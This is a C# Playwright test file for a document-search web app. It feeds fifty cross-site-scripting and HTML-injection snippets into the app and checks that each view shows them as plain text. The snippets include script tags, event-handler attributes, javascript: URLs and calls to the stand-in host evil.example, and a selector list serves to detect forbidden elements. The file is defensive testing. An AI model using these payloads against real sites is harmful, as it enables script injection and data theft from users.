using System.Text.Json;
using Microsoft.Playwright;
using Xunit;

namespace SemanticCorpus.Browser;

/// <summary>Whatever documents say, the page shows it as text: nothing runs, and no element comes of it.</summary>
public sealed class HostileTextTests(Site site) : PageTest(site)
{
    private const string Corpus = "hostile";

    private static readonly string[] Snippets =
    [
        "<script>window.ran=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=window.ran=1>", "<svg onload=window.ran=1>", "<svg><script>window.ran=1</script></svg>",
        "<body onload=window.ran=1>", "<iframe src=javascript:window.ran=1></iframe>", "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", "<a href=javascript:window.ran=1>click</a>", "<math><mi xlink:href='javascript:window.ran=1'>x</mi></math>",
        "\"><script>window.ran=1</script>", "'><img src=x onerror=window.ran=1>", "</script><script>window.ran=1</script>", "</title><script>window.ran=1</script>", "</textarea><script>window.ran=1</script>",
        "</style><script>window.ran=1</script>", "<style>*{display:none}</style>", "<style>@import 'http://evil.example/x.css'</style>", "<link rel=stylesheet href=http://evil.example/x.css>", "<base href=http://evil.example/>",
        "<form action=http://evil.example><input name=q></form>", "<input autofocus onfocus=window.ran=1>", "<details open ontoggle=window.ran=1>x</details>", "<video><source onerror=window.ran=1></video>", "<audio src=x onerror=window.ran=1></audio>",
        "<object data=javascript:window.ran=1></object>", "<embed src=javascript:window.ran=1>", "<marquee onstart=window.ran=1>x</marquee>", "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<template><script>window.ran=1</script></template>",
        "<!--><script>window.ran=1</script>-->", "<![CDATA[<script>window.ran=1</script>]]>", "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">", "&lt;script&gt;window.ran=1&lt;/script&gt;", "&#60;img src=x onerror=window.ran=1&#62;",
        "{{constructor.constructor('window.ran=1')()}}", "${window.ran=1}", "javascript:window.ran=1", "data:text/html,<script>window.ran=1</script>", "<div style=\"background:url(http://evil.example/x.png)\">x</div>",
        "[x](javascript:window.ran=1)", "![x](http://evil.example/x.png)", "<img/src='http://evil.example/pixel.gif'>", "<dialog open>Your session has ended</dialog>", "<button popovertarget=reader>x</button>",
        "\u202Egnihtemos <b>reversed</b>", "<mark>forged</mark>[1][2]", "__proto__", "constructor<img src=x onerror=window.ran=1>", "<plaintext><listing><xmp>",
    ];

    [Fact]
    public async Task Fifty_hostile_snippets_stay_text_in_every_view()
    {
        Assert.Equal(50, Snippets.Distinct().Count());
        await Site.CreateCorpusAsync(Corpus);
        await Site.AddAsync(Corpus, new { documents = Snippets.Select(Document) });

        await OpenAsync($"ask?corpus={Corpus}&q=zebra%20crossing%20rules");
        for (var shown = 10; shown < Snippets.Length; shown += 10)
        {
            await Button("More passages").ClickAsync();
            await Expect(Page.Locator(".result")).ToHaveCountAsync(shown + 10);
        }

        await Page.Locator(".filters summary").ClickAsync();
        await Expect(Page.Locator(".choice").First).ToBeVisibleAsync();
        await Page.Locator(".why-button").First.ClickAsync();
        await CheckAsync(".result h3");

        for (var i = 0; i < 5; i++)
        {
            await Page.Locator(".result-title").Nth(i).ClickAsync();
            await Expect(Page.Locator("#reader mark")).ToBeVisibleAsync();
            await CheckAsync(".result h3");
        }

        await OpenAsync($"documents?corpus={Corpus}");
        await Expect(Page.Locator(".document-row")).ToHaveCountAsync(Snippets.Length);
        await CheckAsync(".document-row h3");

        await OpenAsync($"map?corpus={Corpus}&q=zebra");
        await Expect(Page.Locator(".map-reading h2")).ToBeVisibleAsync();
        await CheckAsync("button.legend-entry span:nth-child(2)", 8);

        await OpenAsync($"chat?corpus={Corpus}");
        await Page.Locator("#chat-input").FillAsync("<img src=x onerror=window.ran=1> zebra crossing rules");
        await Page.Keyboard.PressAsync("Enter");
        await Expect(Page.Locator(".turn.assistant:not([aria-busy])")).ToBeVisibleAsync();
        await CheckAsync(null);
    }

    [Fact]
    public async Task A_hostile_file_is_previewed_as_text()
    {
        await OpenAsync("documents");
        var text = string.Join("\n\n", Snippets.Select(snippet => $"A sentence with {snippet} in it, which is long enough to be kept as a paragraph."));
        await Page.Locator("#files").SetInputFilesAsync(new FilePayload
        {
            Name = "<img src=x onerror=window.ran=1>.txt", MimeType = "text/plain", Buffer = System.Text.Encoding.UTF8.GetBytes(text),
        });
        await Button("Preview").ClickAsync();

        await Expect(Page.Locator(".block", new() { HasText = "<script>window.ran=1</script>" }).First).ToBeVisibleAsync();
        await CheckAsync(null);
    }

    // With words of its own, so that no document is a copy of another, which would be listed once.
    private static object Document(string snippet, int number) => new
    {
        source = $"{number}/{snippet}",
        title = snippet,
        author = snippet,
        site = snippet,
        tags = new[] { snippet },
        properties = new Dictionary<string, string> { [snippet] = snippet },
        text = $"The zebra crossing rules, part {number}, were written down as {snippet} by the road office, and drivers were told of them in a letter. "
            + string.Join(' ', Enumerable.Range(0, 30).Select(word => $"road{(number * 30) + word}")),
    };

    /// <summary>That nothing ran, that no foreign element is there, and that titles are shown as they were given.</summary>
    private async Task CheckAsync(string? titles, int? some = null)
    {
        const string foreign = "script, iframe, object, embed, img, style, link, base, meta, video, audio, math, marquee, template, plaintext, xmp, listing, dialog:not(#reader, .preview)";
        Assert.Null(await Page.EvaluateAsync<JsonElement?>("window.ran ?? null"));
        Assert.Equal(0, await Page.EvaluateAsync<int>($"[...document.querySelectorAll('body *')].filter(e => !e.closest('.brand') && e.matches('{foreign}')).length"));
        Assert.Equal(0, await Page.EvaluateAsync<int>("[...document.querySelectorAll('body *')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value) && ['href', 'src', 'action'].includes(a.name))).length"));
        Assert.Equal(0, await Page.Locator("[href*='evil.example'], [src*='evil.example']").CountAsync());
        if (titles is not null)
        {
            var shown = await Page.Locator(titles).AllTextContentsAsync();
            Assert.Equal(some ?? Snippets.Length, shown.Count);
            Assert.All(shown, title => Assert.Contains(title, Snippets));
        }
    }
}
